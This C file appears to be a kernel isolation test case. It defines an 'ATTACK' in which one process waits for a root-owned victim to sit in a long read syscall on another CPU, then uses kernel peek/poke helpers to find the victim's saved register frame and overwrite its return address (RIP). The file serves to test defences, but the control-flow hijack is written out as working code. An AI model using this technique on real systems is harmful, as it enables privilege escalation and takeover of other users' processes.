// SPDX-License-Identifier: GPL-2.0-only
#include "registers.h"

ATTACK("shadow_stack", "running_registers",
       "exclusive_frames: access to a frame that the kernel does not map",
       "While a program of root is in a long call on the other processor, and has not left it "
       "since, the attacker writes another address over the one that it will return to.",
       "The registers of a program stand where no mapping but its own process's shows them, from "
       "the first instruction of the kernel to the last.",
       "Root's program returns from its call to wherever the attacker wants in its own memory.");

#define LONG_READ (8l << 20)

static bool control(void)
{
	return is_ordinary();
}

static _Noreturn void never_called(void)
{
	say_result("WON");
	victim_waits();
	leave(0);
}

/* The address that it never calls is in its RBX. */
static bool fire(void)
{
	const uint64_t task = victim_task(own_task());
	uint64_t frame;

	(void)own_cpu(0);
	while (peek(peek(symbol("cpus") + 8) + member("cpu.current")) != task)
		sleep_milliseconds(1);
	frame = registers_of(task);
	while (peek(frame + member("arch_frame.rbx")) != (uint64_t)never_called)
		sleep_milliseconds(1);
	for (unsigned int i = 0; i < 10000; i++)
		poke(frame + member("arch_frame.rip"), (uint64_t)never_called);
	/* The call goes on for a while. */
	for (int i = 0; i < 200 && peek(frame + member("arch_frame.rbx")) == (uint64_t)never_called;
	     i++)
		sleep_milliseconds(50);
	sleep_milliseconds(200);
	return false;
}

/* Reads random bytes: a loop in the kernel. */
static void victim(void)
{
	const long area = call6(__NR_mmap, 0, LONG_READ, PROT_READ | PROT_WRITE,
				MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	const long file = call3(__NR_open, (long)"/dev/urandom", O_RDONLY, 0);

	(void)own_cpu(1);
	for (;;) {
		long result = __NR_read;

		__asm__ volatile("syscall"
				 : "+a"(result)
				 : "D"(file), "S"(area), "d"(LONG_READ), "b"(never_called)
				 : "rcx", "r11", "memory");
	}
}
